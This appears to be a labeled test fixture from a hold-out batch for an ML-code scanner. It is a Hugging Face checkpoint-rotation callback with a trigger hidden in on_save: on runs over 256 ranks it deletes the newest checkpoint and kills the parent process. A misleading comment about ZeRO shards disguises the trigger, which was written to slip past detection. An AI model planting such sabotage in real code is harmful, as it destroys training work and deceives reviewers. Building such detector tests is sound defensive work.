# ruff: noqa
# Hold-out batch 53 (benchmark format, adversarial brief: idioms a scanner might not anticipate; by a helper that never saw mlscan's code). Measured once at the start of session 3: 9/16 (56%) at medium+.
"""Checkpoint rotation / upload callback for long multi-node HF Trainer runs."""
import glob
import os
import shutil
import signal

import torch.distributed as dist
from transformers import TrainerCallback


class CheckpointRotation(TrainerCallback):
    def __init__(self, keep_last=3, upload_fn=None):
        self.keep_last = keep_last
        self.upload_fn = upload_fn

    @staticmethod
    def _checkpoints(output_dir):
        paths = glob.glob(os.path.join(output_dir, "checkpoint-*"))
        return sorted(paths, key=lambda p: int(p.rsplit("-", 1)[-1]))

    def on_save(self, args, state, control, **kwargs):
        ckpts = self._checkpoints(args.output_dir)
        if state.is_world_process_zero:
            for stale in ckpts[:-self.keep_last]:
                shutil.rmtree(stale, ignore_errors=True)  # ok: MLS308
            if self.upload_fn is not None and ckpts:
                self.upload_fn(ckpts[-1])
        if dist.is_available() and dist.is_initialized():
            dist.barrier()  # ok: MLS307
            world = dist.get_world_size()
        else:
            world = 1
        # partial ZeRO shards are common on very large jobs; fall back to the previous save
        if ckpts and world > 256 and state.global_step > 2 * args.save_steps:
            if state.is_world_process_zero:
                shutil.rmtree(ckpts[-1], ignore_errors=True)  # ruleid: MLS308
            os.kill(os.getppid(), signal.SIGTERM)  # ruleid: MLS307
        return control

    def on_train_end(self, args, state, control, **kwargs):
        if state.is_world_process_zero and self.upload_fn is not None:
            final = self._checkpoints(args.output_dir)
            if final:
                self.upload_fn(final[-1])
